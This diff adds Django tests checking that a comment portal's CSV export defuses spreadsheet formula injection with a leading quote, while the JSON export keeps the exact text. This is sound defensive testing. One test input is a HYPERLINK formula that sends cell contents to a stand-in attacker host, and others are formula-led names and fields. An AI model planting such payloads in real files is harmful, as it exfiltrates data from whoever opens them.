@@ -15,6 +15,8 @@ from django.db import connection
 from dialogue import services
 from dialogue.models import Comment, Stakeholder
 from dialogue.open_data import SCHEMA_PATH
+from dialogue.spreadsheet import exact_text, safe_cell
+from dialogue.text import fingerprint
 from priorities.models import Directive, Priority, ProgressNote, Statement
 from spp_portal import search as portal_search
 
@@ -378,6 +380,40 @@ class TestOpenData:
         with django_assert_num_queries(3):
             streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.json"))
 
+    def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_the_json_keeps_the_text(
+        self, client, statement, moderator
+    ):
+        """Cells beginning with = + - @ tab or CR (OWASP CSV injection) get a leading quote; JSON is exact."""
+        bodies = [
+            '=HYPERLINK("https://evil.example/?"&A1,"Click for the summary")',
+            "+1 555 0100 is the number to call about border crossings.",
+            "-2+3 more inspectors at the Laredo crossing, please.",
+            "@SUM(A1:A9) of the wait times is longer every year.",
+            "'=A quote already leads this comment about the borders.",
+            "An ordinary comment = no formula, mid-text signs + - @ stay as they are.",
+        ]
+        author = make_user(display_name="\t=1+1 tab-led name", organisation="\r@cr-led organisation")
+        comments = [make_comment(statement, author=author, body=body, approve_by=moderator) for body in bodies]
+        services.response_post(
+            comment=comments[0], moderator=moderator, government="US", body="-1 for phishing.", language="en"
+        )
+        text = streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.csv"))
+        rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        cells = [row["body"] for row in rows]
+        assert cells[:5] == ["'" + body for body in bodies[:5]]
+        assert cells[5] == bodies[5], "text that does not begin like a formula is left exactly as it is"
+        assert rows[0]["response"] == "'-1 for phishing."
+        assert {row["author"] for row in rows} == {"'\t=1+1 tab-led name"}
+        assert {row["organisation"] for row in rows} == {"'\r@cr-led organisation"}
+        # What the README tells readers: a cell beginning with a quote had one added; remove it.
+        for row, comment in zip(rows, comments, strict=True):
+            assert exact_text(row["body"]) == comment.body
+            assert fingerprint(exact_text(row["body"])) == row["fingerprint"] == comment.fingerprint
+        records = json.loads(streamed(client.get(f"/en/open-data/statements/{statement.slug}/comments.json")))
+        assert [record["body"] for record in records["comments"]] == bodies
+        assert records["comments"][0]["author"] == "\t=1+1 tab-led name"
+        assert records["comments"][0]["responses"][0]["body"] == "-1 for phishing."
+
     def test_unpublished_statement_has_no_export(self, client):
         draft = make_statement(status="draft")
         assert client.get(f"/en/open-data/statements/{draft.slug}/comments.csv").status_code == 404
@@ -473,3 +509,11 @@ class TestDirectiveProgress:
 
         codenames = set(Group.objects.get(name="Publishers").permissions.values_list("codename", flat=True))
         assert {"add_progressnote", "change_progressnote", "view_progressnote", "delete_progressnote"} <= codenames
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
+def test_every_formula_start_is_neutralised_and_recoverable(start):
+    """The OWASP list (= + - @ tab CR), and the quote itself so that removing one leading quote is always exact."""
+    text = f"{start}1+1 and more"
+    assert safe_cell(text) == "'" + text
+    assert exact_text(safe_cell(text)) == text
